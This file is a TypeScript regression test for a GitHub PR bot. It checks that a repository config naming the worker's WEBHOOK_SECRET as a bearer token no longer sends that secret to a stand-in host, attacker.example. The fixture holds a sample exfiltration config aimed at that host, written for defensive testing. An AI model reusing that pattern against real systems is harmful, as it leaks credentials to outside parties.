/**
 * Issue 9, finding 1 end to end, as it was found: a repository's default branch carries
 * `.slo-scout.yml` with `bearerToken: { env: WEBHOOK_SECRET }` and an attacker URL, and a writer
 * comments `/slo-scout rerun`. Before, the worker sent the webhook secret to that URL 16 times.
 * Now the analyze job answers on the PR with the config error at file:line:col and the attacker
 * host sees zero requests. The real engine is used (not the fake), with the worker's secret in
 * the environment it is given.
 */
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { configEnvPolicyFromEnv } from '../../app/config/env-policy.js';
import { systemClock } from '../../app/deps.js';
import { createEngine } from '../../app/engine.js';
import { silentLogger } from '../../app/logger.js';
import { parseAllowedHosts } from '../../app/telemetry/outbound.js';
import { topicMarker } from '../../app/vcs/pr.js';
import { startTestStack, WEBHOOK_SECRET, type TestStack } from '../helpers/app-stack.js';
import { assertHttpMocksDone, nock, setupHttpMock, teardownHttpMock } from '../helpers/http-mock.js';
import { postWebhook, prCommentPayload } from '../helpers/webhooks.js';
import { waitFor } from '../helpers/wait.js';
import { BOT, startTestWorkers, workerDeps } from '../helpers/worker-stack.js';

const API = 'https://api.github.com';
const R = '/repos/Codertocat/Hello-World';
const ATTACK = `version: 1
datasources:
  prometheus:
    url: http://attacker.example/
    auth:
      bearerToken: { env: WEBHOOK_SECRET }
`;

let stack: TestStack;
let workers: ReturnType<typeof startTestWorkers>;
const requested: string[] = [];
beforeAll(async () => {
  setupHttpMock();
  stack = await startTestStack();
  const trust = { env: configEnvPolicyFromEnv(undefined), outbound: parseAllowedHosts(undefined) };
  // The global fetch, so nock sees any request the engine would make; each one is recorded.
  const spy = ((url: string, init?: RequestInit) => {
    requested.push(String(url));
    return fetch(url, init);
  }) as typeof fetch;
  const engine = createEngine({ logger: silentLogger, clock: systemClock, env: { WEBHOOK_SECRET }, trust, fetch: spy });
  const deps = { ...workerDeps(stack), engine, configTrust: trust };
  workers = startTestWorkers(stack, deps);
});
afterEach(() => assertHttpMocksDone());
afterAll(async () => {
  await workers?.closeAll();
  await stack?.close();
  teardownHttpMock();
});

describe('a repository config that names WEBHOOK_SECRET', () => {
  it('/slo-scout rerun answers with the config error and sends nothing to the attacker', async () => {
    const attacker = nock('http://attacker.example').persist().post(/.*/).reply(200, { status: 'success', data: { resultType: 'vector', result: [] } }).get(/.*/).reply(200, {});
    const content = Buffer.from(ATTACK).toString('base64');
    nock(API).get(`${R}/contents/.slo-scout.yml`).times(2).reply(200, { type: 'file', content, encoding: 'base64' });
    const payload = prCommentPayload('/slo-scout rerun', { login: 'Codertocat' });
    const commentId = (payload.comment as { id: number }).id;
    nock(API).post(`${R}/issues/comments/${commentId}/reactions`, { content: 'eyes' }).reply(201, {})
      .get(`${R}/pulls/1`).reply(200, { number: 1, state: 'open', title: 't', body: '', html_url: 'u', head: { ref: 'x', sha: 'abc', repo: { full_name: 'Codertocat/Hello-World' } }, base: { ref: 'main', repo: { full_name: 'Codertocat/Hello-World' } } })
      .get(`${R}/collaborators/Codertocat/permission`).reply(200, { permission: 'admin', role_name: 'admin' })
      .get(`${R}/issues/1/comments`).query(true).reply(200, [])
      .post(`${R}/issues/1/comments`, (b) => /re-analysis queued/.test(b.body)).reply(201, { id: 900, body: 'x', user: { login: BOT } })
      .get(`${R}/issues/1/comments`).query(true).reply(200, [{ id: 900, body: `${topicMarker('rerun')}\nqueued`, user: { login: BOT } }]);
    const answered = nock(API).patch(`${R}/issues/comments/900`, (b) => /\.slo-scout\.yml:6:20 datasources\.prometheus\.auth\.bearerToken: environment variable WEBHOOK_SECRET may not be read/.test(b.body)).reply(200, {});
    const res = await postWebhook(stack.app.url, 'issue_comment', payload, { secret: WEBHOOK_SECRET });
    expect(res.status).toBe(200);
    await waitFor(() => answered.isDone() || undefined, 'the config error answered on the PR');
    expect(requested).toEqual([]);
    expect(attacker.isDone()).toBe(false); // not one request reached the attacker's host
    expect(nock.pendingMocks().filter((m) => !m.includes('attacker.example'))).toEqual([]);
    nock.cleanAll(); // the attacker's interceptors stay unused by design
  });
});
